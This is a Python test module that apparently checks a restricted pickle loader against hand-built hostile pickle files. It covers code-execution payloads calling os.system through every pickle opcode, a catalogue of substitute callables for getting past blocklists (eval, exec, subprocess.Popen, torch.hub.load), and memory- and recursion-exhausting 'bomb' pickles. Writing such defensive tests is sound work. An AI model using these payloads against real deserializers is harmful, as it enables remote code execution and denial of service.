"""Programs of the pickle machine: calls by every operation, and bombs."""

import pickle
import struct

from hostile.cases import case


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(module, name):
    return text(module) + text(name) + b"\x93"


def operations(bait):
    """Programs of the pickle machine that would call a function, by the operation they use."""
    command = text(f"touch '{bait.canary}'")
    system = b"cos\nsystem\n"
    return {
        "GLOBAL": b"\x80\x02" + system + command + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04" + named("os", "system") + command + b"\x85R.",
        "INST": b"(" + command + b"ios\nsystem\n.",
        "OBJ": b"\x80\x02(" + system + command + b"o.",
        "NEWOBJ": b"\x80\x02" + system + command + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + named("os", "system") + command + b"\x85}\x92.",
        "BUILD": b"\x80\x02cnumpy\ndtype\n" + text("f8") + b"\x85R}" + text("__setstate__")
        + system + b"sb" + command + b"b.",
        "EXT1": b"\x80\x02\x82\x01" + command + b"\x85R.",
        "EXT4": b"\x80\x02\x84\x01\x00\x00\x00" + command + b"\x85R.",
        "PERSID": b"P" + str(bait.secret).encode() + b"\n.",
        "BINPERSID": b"\x80\x02" + command + b"Q.",
        "dotted name": b"\x80\x04" + named("posixpath", "os.system") + command + b"\x85R.",
        "NEXT_BUFFER": b"\x80\x05\x97.",
    }  # fmt: skip


def calls(bait):
    """What has been called in the place of `os.system` to get past lists of the forbidden."""
    canary, secret = str(bait.canary), str(bait.secret)
    code = f"open({canary!r}, 'w')"
    return {
        "builtins.eval": (code,),
        "builtins.exec": (code,),
        "builtins.getattr": ("a", "b"),
        "builtins.__import__": ("antigravity",),
        "builtins.open": (canary, "w"),
        "builtins.bytearray": (2**40,),
        "builtins.bytes": (2**40,),
        "builtins.range": (2**40,),
        "codecs.decode": ("x", "rot13"),
        "functools.partial": ("x",),
        "importlib.import_module": ("antigravity",),
        "numpy.fromfile": (secret,),
        "numpy.load": (secret,),
        "numpy.ndarray": ((2**40,),),
        "numpy.testing._private.utils.runstring": (code, {}),
        "numpy.zeros": ((2**40,),),
        "operator.attrgetter": ("system",),
        "pandas.read_pickle": (secret,),
        "pathlib.PosixPath": (secret,),
        "pydoc.pipepager": ("x", f"touch {canary}"),
        "runpy._run_code": (code, {}),
        "subprocess.Popen": (["touch", canary],),
        "timeit.timeit": ("pass", code),
        "torch.hub.load": ("evil/evil", "x"),
        "torch.load": (secret,),
        "torch.UntypedStorage.from_file": (secret, False, 8),
        "_codecs.encode": ("x", "zlib"),
        "types.CodeType": (1,),
    }


def _operation(name):
    def make(folder, bait):
        (folder / "experts.pkl").write_bytes(operations(bait)[name])
        return f"demonstrations:{folder / 'experts.pkl'}"

    return make


def _call(name):
    def make(folder, bait):
        module, _, function = name.rpartition(".")
        arguments = pickle.dumps(calls(bait)[name], 4)[2:-1]
        data = b"\x80\x04" + named(module, function) + arguments + b"R."
        (folder / "experts.pkl").write_bytes(data)
        return f"demonstrations:{folder / 'experts.pkl'}"

    return make


class Nowhere:
    canary = secret = "nowhere"


for _name in operations(Nowhere):
    case("episodes", "refused|not on the list|pickle", name=f"pickle by {_name}")(_operation(_name))
for _name in calls(Nowhere):
    case("episodes", "refused|not on the list|pickle", name=f"pickle calls {_name}")(_call(_name))


# -- bombs ---------------------------------------------------------------------------------------

HUGE = 2**40


def _deep(levels):
    return b"\x80\x02" + b"(" * 0 + b"]" * levels + b"a" * (levels - 1) + b"."


def _laughs():
    data = b"\x80\x04]\x94"
    for n in range(60):
        data += b"](h" + bytes([n]) + b"h" + bytes([n]) + b"e\x94"
    return data + b"."


PICKLES = {
    "memo of 2 ** 31": b"\x80\x02]r" + struct.pack("<I", 2**31) + b".",
    "text of 2 ** 63": b"\x80\x04\x8d" + struct.pack("<Q", 2**63) + b"x.",
    "bytes of 2 ** 40": b"\x80\x05\x96" + struct.pack("<Q", HUGE) + b"x.",
    "frame of 2 ** 62": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"N.",
    "number of 2 ** 31 bytes": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"x.",
    "number of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
    "100,000 lists in lists": _deep(100_000),
    "lists of the same lists": _laughs(),
    "a list in itself": b"\x80\x02]q\x00h\x00a.",
    "a dict in itself": b"\x80\x02}q\x00X\x01\x00\x00\x00ah\x00s.",
    "marks without end": b"\x80\x02" + b"(" * 1_000_000 + b".",
    "nothing to stop it": b"\x80\x02" + b"N" * 100_000,
    "an array of 2 ** 40": b"\x80\x02cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\n"
    b"K\x00\x85C\x01b\x87R(K\x01\x8a\x06\x00\x00\x00\x00\x00\x01\x85cnumpy\ndtype\n"
    b"X\x02\x00\x00\x00f8\x85R(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xff"
    b"J\xff\xff\xff\xffK\x00tb\x89C\x08" + bytes(8) + b"tb.",
}  # fmt: skip


def _bare(data):
    def make(folder, bait):
        (folder / "experts.pkl").write_bytes(data)
        return f"demonstrations:{folder / 'experts.pkl'}"

    return make


for _name, _data in PICKLES.items():
    case("episodes", "pickle|trajector", name=f"pickle of {_name}")(_bare(_data))
